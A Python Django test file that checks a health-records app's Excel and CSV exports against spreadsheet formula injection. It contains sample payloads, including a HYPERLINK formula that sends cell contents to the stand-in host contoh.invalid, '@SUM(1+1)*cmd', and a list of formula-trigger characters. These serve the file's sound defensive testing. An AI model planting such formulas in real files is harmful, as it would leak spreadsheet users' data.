"""No name, KIA number or uploaded cell ever becomes a live formula in a download (issue 8 §5).

A KPM can type a child's name as ``=HYPERLINK("http://...","klik")`` (or a KIA number as
``+1+2``, ``-2+3``, ``@SUM(...)``); whoever opens the Formulir export, the import report CSV or
the marked-up workbook in Excel would run it.  Every text cell that could run must arrive as
text: in XLSX as a string cell (value unchanged, quote prefix set), in CSV with a leading
apostrophe.  Numbers stay numbers.
"""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import openpyxl
from django.urls import reverse

from tikar.households.models import Child, Mother, Pregnancy
from tikar.test import BaseTestCase
from tikar.workbooks.importer import import_workbook
from tikar.workbooks.models import ImportRun
from tikar.workbooks.tests.helpers import VALID, frozen_today, open_xlsx, upload, workbook

LINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that Excel would evaluate, as 'Sheet!A1: value'."""
    wb = open_xlsx(content)
    return [
        f"{ws.title}!{cell.coordinate}: {cell.value}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


class FormulirExportTest(BaseTestCase):
    def setUp(self) -> None:
        clock = frozen_today()
        clock.start()
        self.addCleanup(clock.stop)
        outcome = import_workbook(upload(workbook(VALID)), self.sari)
        assert outcome.saved, [f.text() for f in outcome.errors]
        Child.objects.filter(name="Budi Kecil").update(name=LINK, kia_number="-2+3")
        Mother.objects.update(name="@SUM(1+1)*cmd")
        Pregnancy.objects.update(kia_number="+1+2")
        self.login(self.sari)

    def export(self, form: str) -> bytes:
        response = self.client.get(reverse("export_month", args=[form, 2026, 4]))
        self.assertEqual(response.status_code, 200)
        return response.content

    def cell(self, content: bytes, text: str):
        ws = open_xlsx(content).active
        return next(c for row in ws.iter_rows() for c in row if c.value == text)

    def test_it_writes_a_formula_like_name_and_kia_number_as_text(self) -> None:
        content = self.export("2b")
        self.assertEqual(formula_cells(content), [])
        for text in (LINK, "-2+3"):
            with self.subTest(text=text):
                cell = self.cell(content, text)  # exactly what was typed: re-import reads it back
                self.assertEqual(cell.data_type, "s")
                self.assertTrue(cell.quotePrefix)  # stays text when edited in Excel

    def test_it_neutralises_the_mother_and_pregnancy_of_formulir_2a(self) -> None:
        content = self.export("2a")
        self.assertEqual(formula_cells(content), [])
        for text in ("@SUM(1+1)*cmd", "+1+2"):
            with self.subTest(text=text):
                self.assertTrue(self.cell(content, text).quotePrefix)

    def test_it_keeps_numbers_as_numbers(self) -> None:
        ws = open_xlsx(self.export("2b")).active
        values = [c for row in ws.iter_rows() for c in row if c.value == 8.4]
        self.assertEqual([c.data_type for c in values], ["n"])
        self.assertFalse(values[0].quotePrefix)


def literal_text(content: bytes) -> bytes:
    """The workbook with every formula turned into typed text, as Excel stores '=x."""
    wb = openpyxl.load_workbook(BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    out = BytesIO()
    wb.save(out)
    return out.getvalue()


class ImportReportTest(BaseTestCase):
    def setUp(self) -> None:
        clock = frozen_today()
        clock.start()
        self.addCleanup(clock.stop)
        wb = openpyxl.load_workbook(BytesIO(workbook(VALID)))
        wb["Anak"].cell(1, wb["Anak"].max_column + 1).value = "@SUM(A1:A9)"  # unknown column
        wb["Anak"]["D2"].value = LINK  # a live formula in the upload (Jenis kelamin)
        wb.create_sheet("-2+3")  # an unknown sheet, reported by its name
        out = BytesIO()
        wb.save(out)
        self.login(self.sari)
        self.client.post(reverse("import"), {"file": upload(out.getvalue())})
        self.run_ = ImportRun.objects.get()

    def test_it_neutralises_uploaded_names_in_the_report_csv(self) -> None:
        response = self.client.get(reverse("import_report_csv", args=[self.run_.pk]))
        self.assertEqual(response.status_code, 200)
        text = response.content.decode("utf-8-sig")
        cells = [c for row in csv.reader(StringIO(text), delimiter=";") for c in row]
        self.assertIn("'@SUM(A1:A9)", cells)
        self.assertIn("'-2+3", cells)
        self.assertEqual([c for c in cells if c.startswith(TRIGGERS)], [])

    def test_it_turns_every_formula_of_the_marked_up_workbook_into_text(self) -> None:
        response = self.client.get(reverse("import_report_xlsx", args=[self.run_.pk]))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(formula_cells(response.content), [])
        wb = open_xlsx(response.content)
        self.assertEqual(wb["Anak"]["D2"].value, LINK)  # shown as the text that was uploaded
        self.assertTrue(wb["Anak"]["D2"].quotePrefix)
        report = [c.value for row in wb["Laporan impor"].iter_rows() for c in row]
        self.assertIn("@SUM(A1:A9)", report)

    def test_it_does_not_let_budi_download_sari_s_report(self) -> None:
        self.login(self.budi)
        for name in ("import_report_csv", "import_report_xlsx"):
            with self.subTest(name=name):
                response = self.client.get(reverse(name, args=[self.run_.pk]))
                self.assertEqual(response.status_code, 404)
